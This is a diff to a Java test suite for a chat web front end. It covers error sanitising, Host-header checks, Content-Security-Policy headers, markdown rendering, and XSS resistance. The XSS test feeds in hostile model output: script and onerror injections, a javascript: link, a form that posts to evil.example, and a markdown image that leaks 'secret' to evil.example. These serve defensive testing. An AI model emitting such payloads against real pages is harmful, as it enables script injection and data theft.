@@ -75,12 +75,12 @@ class ChatWebTest {
             await().until(() -> model.openConnections() == 0);
             assertThat(browser.messages("error")).isEmpty();
             assertThat(browser.isShown("send")).isTrue();
-            assertThat(browser.messages("assistant").get(0)).startsWith("xxx");
+            assertThat(browser.messages("assistant").get(0)).startsWith("xxx").endsWith("You stopped this answer.");
         }
     }
 
     @Test
-    void aServerThatFailsShowsAReadableError() throws Exception {
+    void aServerThatFailsShowsASentenceAndAnIdAndNothingForOperators() throws Exception {
         String body = Answers.error("The model is on holiday", "server_error", "overloaded");
         try (RawServer model = new RawServer(RawServer.response("503 Busy", "application/json", body));
                 Page page = new Page("--base-url", model.baseUrl());
@@ -89,10 +89,83 @@ class ChatWebTest {
 
             await().until(() -> !browser.messages("error").isEmpty());
             assertThat(browser.messages("error").get(0))
-                    .contains("answered 503")
-                    .contains("The model is on holiday");
+                    .matches("The model cannot answer now\\. Try again later\\. \\([0-9a-f]{8}\\)");
             assertThat(browser.messages("assistant")).isEmpty();
             assertThat(browser.isShown("send")).isTrue();
+        }
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "503 Busy        | overloaded              | The model cannot answer now. Try again later.",
+                "429 Too Many    | rate_limit_exceeded     | The model is busy. Try again in a minute.",
+                "400 Bad Request | context_length_exceeded | The conversation has become too long. Reload the page to begin a new one.",
+                "401 Unauthorized | invalid_api_key        | The model cannot answer now. Try again later.",
+            })
+    void whyTheModelFailedStaysInTheLog(String status, String code, String sentence) throws Exception {
+        String body = Answers.error("internal words", "error", code);
+        try (RawServer model = new RawServer(RawServer.response(status, "application/json", body));
+                Page page = new Page("--base-url", model.baseUrl())) {
+            HttpResponse<String> answer = page.post("application/json", "[{\"role\":\"user\",\"content\":\"a\"}]");
+
+            assertThat(answer.statusCode()).isEqualTo(502);
+            assertThat(answer.body()).contains(sentence).doesNotContain("internal words", "http://", "apiKey");
+        }
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "localhost, 200",
+        "127.0.0.1:8080, 200",
+        "chat.example.com, 200",
+        "evil.example.com, 421",
+        "127.0.0.1.evil.com, 421"
+    })
+    void aNameThatIsNotItsOwnIsRefused(String host, int status) throws Exception {
+        try (Page page = new Page("--allow-host", "chat.example.com")) {
+            assertThat(page.statusFor("GET / HTTP/1.1", host)).isEqualTo(status);
+            assertThat(page.statusFor("GET /assets/page.js HTTP/1.1", host)).isEqualTo(status);
+            assertThat(page.statusFor("POST /chat HTTP/1.1", host)).isEqualTo(status == 200 ? 400 : status);
+        }
+    }
+
+    @Test
+    void noScriptOrStyleInThePageRunsAndNoOtherPageMayFrameIt() throws Exception {
+        try (Page page = new Page()) {
+            HttpResponse<String> answer = page.get("");
+
+            assertThat(answer.headers().firstValue("Content-Security-Policy").orElseThrow())
+                    .contains("default-src 'none'", "script-src 'self'", "style-src 'self'", "frame-ancestors 'none'")
+                    .doesNotContain("unsafe-inline");
+            assertThat(answer.body()).doesNotContain("<style", "onclick").doesNotContainPattern("<script>");
+            assertThat(page.get("assets/marked.js").body()).contains("marked");
+            assertThat(page.get("assets/purify.js").body()).contains("DOMPurify");
+            assertThat(page.get("assets/page.css").statusCode()).isEqualTo(200);
+            assertThat(page.get("assets/../index.html").statusCode()).isEqualTo(404);
+            assertThat(page.get("nothing").statusCode()).isEqualTo(404);
+        }
+    }
+
+    @Test
+    void markdownIsShownAsWhatItMeans() throws Exception {
+        String markdown =
+                "# Title\n\nSome **bold** text, a [link](https://example.com/) and\n\n```\ncode\n```\n\n- one\n- two\n";
+        try (RawServer model = new RawServer(socket ->
+                        begin(socket, new Events().chat(markdown).finish("stop").done()));
+                Page page = new Page("--base-url", model.baseUrl());
+                Browser browser = Browser.open(page.url())) {
+            browser.ask("Say something");
+
+            await().until(() -> browser.isShown("send"));
+            String answer = "document.querySelector('.assistant ";
+            assertThat(browser.evaluate(answer + "h1').textContent")).isEqualTo("Title");
+            assertThat(browser.evaluate(answer + "strong').textContent")).isEqualTo("bold");
+            assertThat(browser.evaluate(answer + "pre code').textContent")).isEqualTo("code\n");
+            assertThat(browser.evaluate(answer + "a').rel")).isEqualTo("noopener noreferrer");
+            assertThat(browser.evaluate("document.querySelectorAll('.assistant li').length"))
+                    .isEqualTo(2L);
         }
     }
 
@@ -104,22 +177,28 @@ class ChatWebTest {
             browser.ask("Hello?");
 
             await().until(() -> browser.messages("error").equals(List.of("The answer broke off.")));
-            assertThat(browser.messages("assistant")).containsExactly("Hel");
+            assertThat(browser.messages("assistant")).containsExactly("Hel\nThis answer is not whole.");
         }
     }
 
     @Test
-    void whatAModelWritesIsShownAsText() throws Exception {
-        String attack = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>";
+    void whatAModelWritesCanDoNoHarm() throws Exception {
+        String attack = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
+                + "<a href=\"javascript:document.title='owned'\">click</a><form action=\"https://evil.example\"><input></form>"
+                + "<svg><style>*{display:none}</style></svg> ![x](https://evil.example/?q=secret) rest";
         try (RawServer model = new RawServer(socket ->
                         begin(socket, new Events().chat(attack).finish("stop").done()));
                 Page page = new Page("--base-url", model.baseUrl());
                 Browser browser = Browser.open(page.url())) {
             browser.ask("<b>hi</b>");
 
-            await().until(() -> browser.messages("assistant").equals(List.of(attack)));
+            await().until(() -> browser.isShown("send")
+                    && browser.messages("assistant").stream().anyMatch(text -> text.contains("rest")));
             assertThat(browser.messages("user")).containsExactly("<b>hi</b>");
-            assertThat(browser.evaluate("document.querySelectorAll('#messages img, #messages b').length"))
+            assertThat(
+                            browser.evaluate(
+                                    "document.querySelectorAll('#messages img, #messages b, #messages script,"
+                                            + " #messages form, #messages input, #messages style, #messages svg, #messages [href^=javascript]').length"))
                     .isEqualTo(0L);
             assertThat(browser.evaluate("document.title")).isEqualTo("Chat");
         }
@@ -193,7 +272,7 @@ class ChatWebTest {
                         .options())
                 .extracting(option -> option.longestName())
                 .filteredOn(name -> !name.equals("--help") && !name.equals("--version"))
-                .hasSize(4)
+                .hasSize(5)
                 .allSatisfy(name -> assertThat(readme).contains("| `" + name + "` |"));
     }
 
@@ -245,6 +324,23 @@ class ChatWebTest {
                                     .POST(HttpRequest.BodyPublishers.ofString(body))
                                     .build(),
                             HttpResponse.BodyHandlers.ofString());
+        }
+
+        HttpResponse<String> get(String path) throws Exception {
+            return HttpClient.newHttpClient()
+                    .send(
+                            HttpRequest.newBuilder(URI.create(url() + path)).build(),
+                            HttpResponse.BodyHandlers.ofString());
+        }
+
+        /** The status of a request with a header Host of its own, which Java's client does not send. */
+        int statusFor(String requestLine, String host) throws IOException {
+            try (Socket socket = new Socket("127.0.0.1", port)) {
+                String head = requestLine + "\r\nHost: " + host + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
+                socket.getOutputStream().write(head.getBytes(StandardCharsets.UTF_8));
+                String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
+                return Integer.parseInt(answer.split(" ")[1]);
+            }
         }
 
         @Override
